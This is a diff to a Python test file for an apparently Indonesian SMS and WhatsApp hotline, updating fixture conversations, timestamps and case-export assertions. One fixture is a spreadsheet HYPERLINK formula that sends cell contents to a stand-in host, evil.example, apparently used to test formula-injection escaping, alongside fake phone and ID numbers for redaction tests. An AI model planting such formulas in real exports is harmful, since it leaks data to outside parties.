@@ -44,7 +44,8 @@ PHONE_IN_TEXT = "0812-9876-5432"
 NIK = "7372 0145 0890 0001"
 STORY_A = f"Saya dipukul suami — hubungi kakak saya {PHONE_IN_TEXT}, NIK {NIK}, rumah dekat café"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
-# Kekerasan in Lompoe, messages wanted, a name given; dokumen in Lemoe (WhatsApp) and Paokmotong.
+# Kekerasan in Lompoe, messages wanted, a name given; dokumen in Lemoe (WhatsApp) and Paokmotong:
+# for whom (and, on SMS, a disability), then the document (and, on SMS, the story).
 REPORT_A = (
     "halo",
     "iya",
@@ -52,15 +53,16 @@ REPORT_A = (
     "1",
     "gak",
     "sy sendiri 34",
+    "LEWATI",  # a disability: not said
     STORY_A,
     "suami",
     "lompoe",
     "2 kapan saja",
     "LEWATI",
     "1 Siti Aminah",
-)  # SMS, questions in pairs; any time: notices go at once; 12 messages, the last at 10:12
-REPORT_B = ("halo", "ya", "ya", "dokumen", "akta", "anak", FORMULA, "lemoe", "3", "LEWATI", "1")
-REPORT_C = ("halo", "ya", "ya", "dokumen", "akta", "2 Akta anak belum jadi", "paokmotong", "3",
+)  # SMS, questions in pairs; any time: notices go at once; 13 messages, the last at 10:13
+REPORT_B = ("halo", "ya", "ya", "dokumen", "anak", "LEWATI", "akta", FORMULA, "lemoe", "3", "LEWATI", "1")
+REPORT_C = ("halo", "ya", "ya", "dokumen", "2", "3 Akta anak belum jadi", "paokmotong", "3",
             "LEWATI", "1")  # fmt: skip
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 WITA = timezone(timedelta(hours=8))
@@ -134,10 +136,11 @@ def world(app, client, hotline, redis, clock: Clock) -> dict[str, str]:
 
     clock.now = at(1, 16, 30)  # DAY1 + 2, 00:30 WITA
     b_person = Resident(client, RESIDENT_B, whatsapp=True)
-    talk(b_person, clock, *REPORT_B[:6])
+    story = REPORT_B.index(FORMULA)
+    talk(b_person, clock, *REPORT_B[:story])
     media = {"NumMedia": "1", "MediaUrl0": "https://api.twilio.com/m/1", "MediaContentType0": "image/jpeg"}
-    talk(b_person, clock, REPORT_B[6], **media)
-    b = code_in(talk(b_person, clock, *REPORT_B[7:]), "PRE")
+    talk(b_person, clock, REPORT_B[story], **media)
+    b = code_in(talk(b_person, clock, *REPORT_B[story + 1 :]), "PRE")
 
     clock.now = at(4, 3)
     c = code_in(talk(Resident(client, RESIDENT_C, to=MSB_NUMBER), clock, *REPORT_C), "MSB")
@@ -271,9 +274,9 @@ def test_cases_with_category_area_status_times_and_referrals(hotline, world, fmt
     assert (c["site"], c["area"]) == ("MSB", "Paokmotong")
     assert a["urgent"] in (False, "no") and a["holder"] == "Bu Ani"
     assert a["referrals"] in (["UPTD PPA"], "UPTD PPA") and b["referrals"] in ([], "", None)
-    assert a["created"] == f"{day(0)}T10:12:00+08:00"
+    assert a["created"] == f"{day(0)}T10:13:00+08:00"
     assert a["created"] < a["accepted"] < a["closed"] and a["closed"].endswith("+08:00")
-    assert b["created"] == f"{day(2)}T00:41:00+08:00" and b["accepted"] in (None, "")
+    assert b["created"] == f"{day(2)}T00:42:00+08:00" and b["accepted"] in (None, "")
     assert a["resident"] == redact.pseudonym(contact_of(hotline, RESIDENT), SECRET) != b["resident"]
 
 
